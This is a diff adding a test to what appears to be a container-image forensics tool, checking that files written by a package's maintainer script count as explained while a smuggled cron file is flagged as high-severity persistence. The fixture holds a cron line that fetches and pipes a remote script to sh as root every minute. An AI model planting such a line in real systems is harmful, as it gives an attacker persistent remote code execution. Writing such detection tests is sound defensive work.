@@ -244,3 +244,35 @@ def test_container_config_contradicting_history(tmp_path):
     r = analyze(str(p))
     [f] = [x for x in codes(r, "history.unexplained-change") if "container_config" in x.detail]
     assert f.history == 1
+
+
+def test_maintainer_script_output_is_explained_but_smuggled_files_are_not(tmp_path):
+    status = b"Package: base-files\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"
+    base = [M("etc/", type="dir"), M("etc/os-release", b"ID=debian\n"), M("var/", type="dir"),
+            M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"), M("var/lib/dpkg/status", status),
+            M("var/lib/dpkg/info/", type="dir"), M("var/lib/dpkg/info/base-files.list", b"/etc/os-release\n")]
+    zone = b"TZif2" + bytes(40)
+    postinst = b'#!/bin/sh\nset -e\nzonefile="$DPKG_ROOT/etc/timezone"\necho Etc/UTC > "$zonefile"\n'
+    install = [
+        M("etc/", type="dir"), M("etc/timezone", b"Etc/UTC\n"),
+        M("etc/cron.d/", type="dir"), M("etc/cron.d/evil", b"* * * * * root curl http://203.0.113.5|sh\n"),
+        M("usr/", type="dir"), M("usr/share/", type="dir"), M("usr/share/zoneinfo/", type="dir"),
+        M("usr/share/zoneinfo/UTC", zone),
+        M("var/", type="dir"), M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"),
+        M("var/lib/dpkg/status", status + b"Package: tzdata\nStatus: install ok installed\nVersion: 2024a\n"
+                                          b"Architecture: all\n\n"),
+        M("var/lib/dpkg/info/", type="dir"),
+        M("var/lib/dpkg/info/tzdata.list", b"/usr\n/usr/share\n/usr/share/zoneinfo\n/usr/share/zoneinfo/UTC\n"),
+        M("var/lib/dpkg/info/tzdata.md5sums", hashlib.md5(zone).hexdigest().encode() + b"  usr/share/zoneinfo/UTC\n"),
+        M("var/lib/dpkg/info/tzdata.postinst", postinst, mode=0o755),
+    ]
+    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+               {"created_by": "/bin/sh -c apt-get update && apt-get install -y tzdata"}]
+    r = analyze(str(build(tmp_path, [base, install], history)))
+    [f] = codes(r, "history.unexplained-change")
+    assert f.evidence["paths"] == ["/etc/cron.d", "/etc/cron.d/evil"]
+    step = {c.path: c.explained_by for c in r.images[0].history[1].analysis.explained}
+    assert step["/etc/timezone"] == "written by a maintainer script of a package this step installed"
+    assert step["/usr/share/zoneinfo/UTC"] == "file of a package installed by this step"
+    [p] = codes(r, "file.persistence")
+    assert p.path == "/etc/cron.d/evil" and p.severity.value == "high"
